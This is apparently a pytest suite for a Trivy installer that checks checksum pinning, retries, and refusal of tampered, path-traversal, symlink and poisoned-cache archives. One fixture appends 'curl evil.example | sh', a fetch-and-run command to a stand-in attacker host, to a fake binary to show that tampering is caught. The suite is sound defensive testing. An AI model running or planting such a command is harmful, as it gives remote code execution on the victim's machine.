"""The Trivy installer against a real HTTP server on 127.0.0.1 serving release-shaped archives.

Most cases use a tiny shell-script "trivy" (it prints `Version: X`, as Trivy does); one
test packs the real Trivy binary so the whole path - download, verify, unpack, run - is
proven on the real thing.
"""

from __future__ import annotations

import hashlib
import io
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from mlsecops.cli.install_trivy import main
from mlsecops.errors import ToolError, UsageError
from mlsecops.trivy.install import (
    DEFAULT_VERSION,
    PINNED_SHA256,
    Retry,
    archive_name,
    detect_platform,
    find_or_install,
    install,
    install_path,
    normalize_version,
)

REPO = Path(__file__).resolve().parents[2]
VERSION = "0.74.1"  # not pinned: its checksum comes from the served checksums file
HERE = detect_platform()
NAME = archive_name(VERSION, HERE)


def fake_trivy(version: str) -> bytes:
    return f'#!/bin/sh\necho "Version: {version}"\n'.encode()


def release_archive(
    binary: bytes, *, member: str = "trivy", kind: bytes = tarfile.REGTYPE, level: int = 6
) -> bytes:
    """A tar.gz shaped like Trivy's: LICENSE, README.md, contrib/, and the binary."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", compresslevel=level) as tar:
        for name, data in (("LICENSE", b"Apache-2.0\n"), ("README.md", b"# Trivy\n")):
            add(tar, name, data)
        add(tar, "contrib/html.tpl", b"<html></html>\n")
        add(tar, member, binary, kind=kind)
    return buffer.getvalue()


def add(tar: tarfile.TarFile, name: str, data: bytes, kind: bytes = tarfile.REGTYPE) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = 0o755
    if kind == tarfile.SYMTYPE:
        info.linkname = "/bin/sh"
        tar.addfile(info)
        return
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def checksums_file(entries: dict[str, bytes]) -> str:
    return "".join(f"{sha256(data)}  {name}\n" for name, data in entries.items())


def serve_release(
    server: HTTPServer, version: str, archive: bytes, checksums: str | None = None
) -> None:
    """Serve the archive (and the checksums file) at the paths GitHub releases use."""
    name = archive_name(version, HERE)
    if checksums is None:
        checksums = checksums_file({name: archive})
    server.expect_request(f"/v{version}/trivy_{version}_checksums.txt").respond_with_data(
        checksums, content_type="text/plain"
    )
    server.expect_request(f"/v{version}/{name}").respond_with_data(
        archive, content_type="application/octet-stream"
    )


def requested(server: HTTPServer) -> list[str]:
    return [request.path for request, _response in server.log]


class Sleeps:
    """Records the backoff delays instead of sleeping through them."""

    def __init__(self) -> None:
        self.delays: list[float] = []

    def __call__(self, seconds: float) -> None:
        self.delays.append(seconds)


@pytest.fixture
def sleeps() -> Sleeps:
    return Sleeps()


@pytest.fixture
def retry(sleeps: Sleeps) -> Retry:
    return Retry(attempts=4, first_delay=1.0, sleep=sleeps)


@pytest.fixture
def base(httpserver: HTTPServer) -> str:
    return httpserver.url_for("/").rstrip("/")


def left_in(install_dir: Path) -> list[str]:
    return sorted(str(p.relative_to(install_dir)) for p in install_dir.rglob("*"))


# --- the good path --------------------------------------------------------------------


def test_good_archive_installs_and_runs(httpserver, base, retry, tmp_path):
    serve_release(httpserver, VERSION, release_archive(fake_trivy(VERSION)))
    path = install(VERSION, tmp_path / "tools", base_url=base, retry=retry)

    assert path == tmp_path / "tools" / VERSION / HERE.key / "trivy"
    assert path.stat().st_mode & 0o777 == 0o755
    run = subprocess.run([str(path), "--version"], capture_output=True, text=True, check=True)
    assert run.stdout.strip() == f"Version: {VERSION}"
    # The binary and the verified archive it came from (later runs check one against the
    # other): no LICENSE/contrib, no scratch dir left behind.
    assert left_in(tmp_path / "tools") == [
        VERSION,
        f"{VERSION}/{HERE.key}",
        f"{VERSION}/{HERE.key}/trivy",
        f"{VERSION}/{HERE.key}/{NAME}",
    ]
    assert requested(httpserver) == [
        f"/v{VERSION}/trivy_{VERSION}_checksums.txt",
        f"/v{VERSION}/{NAME}",
    ]


@pytest.fixture(scope="session")
def real_release(trivy_bin: Path) -> tuple[str, bytes]:
    """The real Trivy (0.76.0) packed like its release archive, once per session."""
    version = subprocess.run(
        [str(trivy_bin), "--version"], capture_output=True, text=True, check=True
    ).stdout.split()[1]
    return version, release_archive(trivy_bin.read_bytes(), level=1)


def test_real_trivy_archive_installs_and_runs(httpserver, base, retry, tmp_path, real_release):
    version, archive = real_release
    serve_release(httpserver, version, archive)
    path = install(version, tmp_path / "tools", base_url=base, retry=retry)
    run = subprocess.run([str(path), "--version"], capture_output=True, text=True, check=True)
    assert run.stdout.splitlines()[0] == f"Version: {version}"
    assert path.stat().st_size > 50_000_000


def test_pinned_checksum_is_used_without_the_checksums_file(httpserver, base, retry, tmp_path):
    archive = release_archive(fake_trivy(VERSION))
    httpserver.expect_request(f"/v{VERSION}/{NAME}").respond_with_data(archive)
    path = install(
        VERSION, tmp_path / "tools", base_url=base, retry=retry, pins={NAME: sha256(archive)}
    )
    assert path.is_file()
    assert requested(httpserver) == [f"/v{VERSION}/{NAME}"]


def test_default_version_and_its_pins():
    assert DEFAULT_VERSION == "0.75.0"
    pins = {
        "Linux-64bit": "c6e65abddb348e25f10549df887045629cf28cc72453cd1c63acb717316b3f3f",
        "Linux-ARM64": "a1ee9f6ffb7d112b64ff726a2a0717c21175c1114361391f4a132956751a13b3",
        "macOS-64bit": "291edaa9778acbe4693d067b5ad60ee11570e5ac68296e85595417528ca641e4",
        "macOS-ARM64": "4a77108cccf8e55c8d6823e1e759939a622277e66cd0daa3c1fc621ed69e4568",
    }
    assert {f"trivy_0.75.0_{key}.tar.gz": digest for key, digest in pins.items()} == PINNED_SHA256
    assert normalize_version("") == "0.75.0"
    assert normalize_version("v0.75.0") == "0.75.0"


# --- refused downloads ----------------------------------------------------------------


def test_archive_not_matching_the_pinned_checksum_is_refused(httpserver, base, retry, tmp_path):
    # Our archive is not Trivy's real 0.75.0 one, so the real pin must refuse it, without
    # asking the (attacker-controllable) release for a checksums file.
    archive = release_archive(fake_trivy("0.75.0"))
    name = archive_name("0.75.0", HERE)
    httpserver.expect_request(f"/v0.75.0/{name}").respond_with_data(archive)
    with pytest.raises(ToolError) as caught:
        install("0.75.0", tmp_path / "tools", base_url=base, retry=retry)
    message = caught.value.one_line()
    assert f"expected sha256 {PINNED_SHA256[name]}" in message
    assert f"got sha256 {sha256(archive)}" in message
    assert requested(httpserver) == [f"/v0.75.0/{name}"]
    assert left_in(tmp_path / "tools") == []


def test_tampered_archive_is_refused(httpserver, base, retry, tmp_path):
    good = release_archive(fake_trivy(VERSION))
    tampered = release_archive(fake_trivy(VERSION) + b"curl evil.example | sh\n")
    serve_release(httpserver, VERSION, tampered, checksums_file({NAME: good}))
    with pytest.raises(ToolError) as caught:
        install(VERSION, tmp_path / "tools", base_url=base, retry=retry)
    message = caught.value.one_line()
    assert f"checksum mismatch for {NAME}" in message
    assert f"expected sha256 {sha256(good)}, got sha256 {sha256(tampered)}" in message
    assert left_in(tmp_path / "tools") == []


def test_checksums_file_without_our_archive_is_refused(httpserver, base, retry, tmp_path):
    archive = release_archive(fake_trivy(VERSION))
    serve_release(httpserver, VERSION, archive, checksums_file({"trivy_other.tar.gz": archive}))
    with pytest.raises(ToolError, match=f"has no checksum for {NAME}"):
        install(VERSION, tmp_path / "tools", base_url=base, retry=retry)
    assert left_in(tmp_path / "tools") == []


def test_truncated_download_is_refused(httpserver, base, sleeps, retry, tmp_path):
    archive = release_archive(fake_trivy(VERSION))

    def short(_request: Request) -> Response:
        response = Response(archive[:100], content_type="application/octet-stream")
        response.headers["Content-Length"] = str(len(archive))  # announce it all, send less
        return response

    httpserver.expect_request(f"/v{VERSION}/trivy_{VERSION}_checksums.txt").respond_with_data(
        checksums_file({NAME: archive})
    )
    httpserver.expect_request(f"/v{VERSION}/{NAME}").respond_with_handler(short)
    with pytest.raises(ToolError) as caught:
        install(VERSION, tmp_path / "tools", base_url=base, retry=retry)
    assert f"truncated download: got 100 of {len(archive)} bytes" in caught.value.one_line()
    assert "after 4 attempts" in caught.value.one_line()
    assert sleeps.delays == [1.0, 2.0, 4.0]
    assert left_in(tmp_path / "tools") == []


def not_found(server: HTTPServer) -> None:
    """What GitHub answers for a release that does not exist."""
    server.expect_request("/v9.9.9/trivy_9.9.9_checksums.txt").respond_with_data(
        "Not Found", status=404
    )


def test_404_is_a_bad_version_and_not_retried(httpserver, base, sleeps, retry, tmp_path):
    not_found(httpserver)
    with pytest.raises(UsageError) as caught:
        install("9.9.9", tmp_path / "tools", base_url=base, retry=retry)
    message = caught.value.one_line()
    assert message.startswith("Trivy v9.9.9 not found:")
    assert "check trivy-version" in message
    assert len(httpserver.log) == 1
    assert sleeps.delays == []
    assert left_in(tmp_path / "tools") == []


def test_500_then_success_is_retried(httpserver, base, sleeps, retry, tmp_path):
    archive = release_archive(fake_trivy(VERSION))
    httpserver.expect_oneshot_request(f"/v{VERSION}/{NAME}").respond_with_data(
        "upstream hiccup", status=500
    )
    serve_release(httpserver, VERSION, archive)
    path = install(VERSION, tmp_path / "tools", base_url=base, retry=retry)
    assert path.is_file()
    assert sleeps.delays == [1.0]
    assert [r.status_code for _q, r in httpserver.log] == [200, 500, 200]


def test_500_forever_gives_up_with_backoff(httpserver, base, sleeps, retry, tmp_path):
    httpserver.expect_request(f"/v{VERSION}/trivy_{VERSION}_checksums.txt").respond_with_data(
        "down", status=503
    )
    with pytest.raises(ToolError) as caught:
        install(VERSION, tmp_path / "tools", base_url=base, retry=retry)
    message = caught.value.one_line()
    assert "failed after 4 attempts: HTTP 503" in message
    assert "retry the job later" in message
    assert sleeps.delays == [1.0, 2.0, 4.0]
    assert len(httpserver.log) == 4
    assert left_in(tmp_path / "tools") == []


def test_connection_refused_is_retried_then_reported(sleeps, retry, tmp_path):
    with pytest.raises(ToolError, match="failed after 4 attempts: ConnectionError"):
        install(VERSION, tmp_path / "tools", base_url="http://127.0.0.1:1", retry=retry)
    assert sleeps.delays == [1.0, 2.0, 4.0]


def test_path_traversal_member_is_refused(httpserver, base, retry, tmp_path):
    evil = release_archive(fake_trivy(VERSION), member="../trivy")
    serve_release(httpserver, VERSION, evil)  # its checksum matches: only unpacking can catch it
    install_dir = tmp_path / "a" / "tools"
    with pytest.raises(ToolError, match=r"member '\.\./trivy' points outside the archive"):
        install(VERSION, install_dir, base_url=base, retry=retry)
    assert left_in(install_dir) == []
    assert not (tmp_path / "a" / "trivy").exists()


def test_symlink_trivy_member_is_refused(httpserver, base, retry, tmp_path):
    serve_release(httpserver, VERSION, release_archive(b"", kind=tarfile.SYMTYPE))
    with pytest.raises(ToolError, match="`trivy` member is not a regular file"):
        install(VERSION, tmp_path / "tools", base_url=base, retry=retry)
    assert left_in(tmp_path / "tools") == []


def test_archive_without_trivy_is_refused(httpserver, base, retry, tmp_path):
    serve_release(httpserver, VERSION, release_archive(fake_trivy(VERSION), member="bin/other"))
    with pytest.raises(ToolError, match="holds no `trivy` binary"):
        install(VERSION, tmp_path / "tools", base_url=base, retry=retry)
    assert left_in(tmp_path / "tools") == []


def test_binary_reporting_another_version_is_refused(httpserver, base, retry, tmp_path):
    serve_release(httpserver, VERSION, release_archive(fake_trivy("0.1.0")))
    with pytest.raises(ToolError, match=f"reports version 0.1.0, not {VERSION}"):
        install(VERSION, tmp_path / "tools", base_url=base, retry=retry)
    assert left_in(tmp_path / "tools") == []


# --- find_or_install --------------------------------------------------------------------


def on_path(tmp_path: Path, version: str) -> Path:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    trivy = bin_dir / "trivy"
    trivy.write_bytes(fake_trivy(version))
    trivy.chmod(0o755)
    return bin_dir


def test_trivy_on_path_with_the_right_version_is_used(httpserver, base, retry, tmp_path):
    bin_dir = on_path(tmp_path, VERSION)
    found = find_or_install(
        VERSION, tmp_path / "tools", search_path=str(bin_dir), base_url=base, retry=retry
    )
    assert (found.path, found.source) == (bin_dir / "trivy", "PATH")
    assert httpserver.log == []


def test_trivy_on_path_with_another_version_is_passed_over(httpserver, base, retry, tmp_path):
    bin_dir = on_path(tmp_path, "0.50.0")
    serve_release(httpserver, VERSION, release_archive(fake_trivy(VERSION)))
    messages: list[str] = []
    found = find_or_install(
        VERSION,
        tmp_path / "tools",
        search_path=str(bin_dir),
        base_url=base,
        retry=retry,
        log=messages.append,
    )
    assert (found.path, found.source) == (
        install_path(tmp_path / "tools", VERSION, HERE),
        "download",
    )
    assert f"is 0.50.0, not {VERSION}: not using it" in messages[0]


def test_installed_binary_is_reused_without_downloading(httpserver, base, retry, tmp_path):
    serve_release(httpserver, VERSION, release_archive(fake_trivy(VERSION)))
    first = find_or_install(VERSION, tmp_path / "tools", search_path="", base_url=base, retry=retry)
    httpserver.clear_log()
    again = find_or_install(VERSION, tmp_path / "tools", search_path="", base_url=base, retry=retry)
    assert (first.source, again.source) == ("download", "install dir")
    assert again.path == first.path
    # Not pinned here: the cached archive is checked against the release's checksums again.
    assert requested(httpserver) == [f"/v{VERSION}/trivy_{VERSION}_checksums.txt"]


# --- a poisoned cache (issue 11): nothing of a cached entry runs before its checksums ----


def poisoned_trivy(version: str, marker: Path) -> bytes:
    """Says the right version, like the real one, and records that it was executed."""
    return f'#!/bin/sh\necho ran >> "{marker}"\necho "Version: {version}"\n'.encode()


def cached_install(httpserver: HTTPServer, base: str, tmp_path: Path) -> tuple[Path, bytes, dict]:
    """A pinned fake release installed into tools/; returns the binary path, archive, pins."""
    archive = release_archive(fake_trivy(VERSION))
    httpserver.expect_request(f"/v{VERSION}/{NAME}").respond_with_data(archive)
    pins = {NAME: sha256(archive)}
    path = install(VERSION, tmp_path / "tools", base_url=base, pins=pins, retry=Retry(1))
    httpserver.clear_log()
    return path, archive, pins


def refind(tmp_path: Path, base: str, pins: dict) -> tuple[object, list[str]]:
    warnings: list[str] = []
    found = find_or_install(
        VERSION, tmp_path / "tools", search_path="", base_url=base, pins=pins,
        retry=Retry(1), warn=warnings.append,
    )  # fmt: skip
    return found, warnings


def test_a_pinned_cached_copy_is_verified_offline_and_reused(httpserver, base, tmp_path):
    path, _archive, pins = cached_install(httpserver, base, tmp_path)
    found, warnings = refind(tmp_path, base, pins)
    assert (found.path, found.source, warnings) == (path, "install dir", [])
    assert httpserver.log == []  # pinned: verifying needs no network


@pytest.mark.parametrize(
    "poison",
    ["binary", "binary-and-archive", "binary-only-no-archive", "binary-symlink"],
)
def test_a_poisoned_cached_binary_is_never_executed(httpserver, base, tmp_path, poison):
    path, _archive, pins = cached_install(httpserver, base, tmp_path)
    marker = tmp_path / "poisoned-binary-ran"
    evil = poisoned_trivy(VERSION, marker)
    archive_path = path.parent / NAME
    if poison == "binary-symlink":
        (tmp_path / "evil").write_bytes(evil)
        (tmp_path / "evil").chmod(0o755)
        path.unlink()
        path.symlink_to(tmp_path / "evil")
    else:
        path.write_bytes(evil)
    if poison == "binary-and-archive":  # consistent with each other, not with the pin
        archive_path.write_bytes(release_archive(evil))
    if poison == "binary-only-no-archive":  # the layout before archives were kept
        archive_path.unlink()
    found, warnings = refind(tmp_path, base, pins)
    assert not marker.exists(), "the poisoned binary was executed"
    assert found.source == "download"
    assert found.path.read_bytes() == fake_trivy(VERSION)
    assert requested(httpserver) == [f"/v{VERSION}/{NAME}"]
    [warning] = warnings
    assert f"the cached Trivy {VERSION} in {path.parent} was refused and deleted" in warning
    assert "downloading it afresh" in warning


def test_cli_warns_with_an_annotation_when_it_refuses_the_cache(httpserver, base, tmp_path):
    serve_release(httpserver, VERSION, release_archive(fake_trivy(VERSION)))
    args = ("--version", VERSION, "--dir", str(tmp_path / "tools"), "--base-url", base)
    assert cli(*args).returncode == 0
    marker = tmp_path / "ran"
    installed = install_path(tmp_path / "tools", VERSION, HERE)
    installed.write_bytes(poisoned_trivy(VERSION, marker))
    proc = cli(*args)
    assert proc.returncode == 0, proc.stderr
    assert not marker.exists()
    warning = next(line for line in proc.stdout.splitlines() if line.startswith("::warning"))
    assert "title=mlsecops::the cached Trivy" in warning and "sha256" in warning
    assert proc.stdout.splitlines()[-1] == str(installed)
    assert installed.read_bytes() == fake_trivy(VERSION)


# --- platforms --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("system", "machine", "key"),
    [
        ("Linux", "x86_64", "Linux-64bit"),
        ("Linux", "aarch64", "Linux-ARM64"),
        ("Darwin", "arm64", "macOS-ARM64"),
        ("Darwin", "x86_64", "macOS-64bit"),
    ],
)
def test_supported_platforms(system, machine, key):
    assert detect_platform(system, machine).key == key


@pytest.mark.parametrize(
    ("system", "machine"),
    [("Windows", "AMD64"), ("Linux", "i686"), ("Linux", "armv7l"), ("FreeBSD", "amd64")],
)
def test_unsupported_platforms_are_usage_errors(system, machine):
    with pytest.raises(UsageError) as caught:
        detect_platform(system, machine)
    message = caught.value.one_line()
    assert f"cannot install Trivy on {system} {machine}" in message
    assert "Linux or macOS on x86_64 (amd64) or arm64 (aarch64)" in message


# --- the command line -------------------------------------------------------------------


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "mlsecops.cli.install_trivy", *args],
        capture_output=True,
        text=True,
        env=env,
        check=False,
        timeout=120,
    )


def test_cli_prints_the_binary_path_last(httpserver, base, tmp_path):
    serve_release(httpserver, VERSION, release_archive(fake_trivy(VERSION)))
    proc = cli("--version", VERSION, "--dir", str(tmp_path / "tools"), "--base-url", base)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[-1] == str(install_path(tmp_path / "tools", VERSION, HERE))
    assert proc.stderr == ""


def assert_one_line(proc: subprocess.CompletedProcess[str], code: int, *words: str) -> None:
    assert proc.returncode == code, proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    for word in words:
        assert word in proc.stderr


def test_cli_tampered_archive_exits_3(httpserver, base, tmp_path):
    archive = release_archive(fake_trivy(VERSION))
    serve_release(httpserver, VERSION, archive + b"\0", checksums_file({NAME: archive}))
    proc = cli("--version", VERSION, "--dir", str(tmp_path / "tools"), "--base-url", base)
    assert_one_line(proc, 3, "checksum mismatch", sha256(archive), sha256(archive + b"\0"))


def test_cli_unknown_version_exits_2(httpserver, base, tmp_path):
    not_found(httpserver)
    proc = cli("--version", "9.9.9", "--dir", str(tmp_path / "tools"), "--base-url", base)
    assert_one_line(proc, 2, "Trivy v9.9.9 not found", "check trivy-version")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--version", "latest", "--dir", "x"], "is not a Trivy release version"),
        (["--version", "1", "--dir", "x"], "is not a Trivy release version"),
        ([], "the following arguments are required: --dir"),
    ],
)
def test_cli_bad_arguments_exit_2(args, message):
    proc = cli(*args)
    assert_one_line(proc, 2, message)


def test_cli_unsupported_platform_exits_2(tmp_path, capsys):
    code = main(["--dir", str(tmp_path)], system="Windows", machine="AMD64")
    err = capsys.readouterr().err
    assert code == 2
    assert err.count("\n") == 1
    assert "cannot install Trivy on Windows AMD64" in err
    assert "Linux or macOS" in err


def test_cli_scan_without_trivy_installs_the_pinned_default_and_refuses_a_tampered_one(
    httpserver, tmp_path, trivy_cache
):
    """`mlsecops scan` online with no trivy anywhere: the interface's pinned install path."""
    archive = release_archive(fake_trivy(DEFAULT_VERSION))
    serve_release(httpserver, DEFAULT_VERSION, archive)
    env = {k: v for k, v in os.environ.items() if k != "PATH"}
    env.update(
        PATH="/usr/bin:/bin",
        PYTHONPATH=str(REPO),
        XDG_CACHE_HOME=str(tmp_path / "xdg"),
        MLSECOPS_TRIVY_DOWNLOAD_URL=httpserver.url_for("").rstrip("/"),
    )
    project = REPO / "tests" / "fixtures" / "projects" / "clean"
    proc = subprocess.run(
        [sys.executable, "-m", "mlsecops", "scan", str(project), "--trivy-cache-dir",
         str(trivy_cache)],
        capture_output=True, text=True, env=env, check=False, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 3, proc.stderr
    error = proc.stderr.strip().splitlines()[-1]
    assert error.startswith("mlsecops: error:")
    # The archive is not Trivy's real one, so the hash pinned for the default version refuses it.
    assert PINNED_SHA256[archive_name(DEFAULT_VERSION, HERE)] in error
    assert sha256(archive) in error
    assert [p for p in (tmp_path / "xdg").rglob("*") if p.is_file()] == []
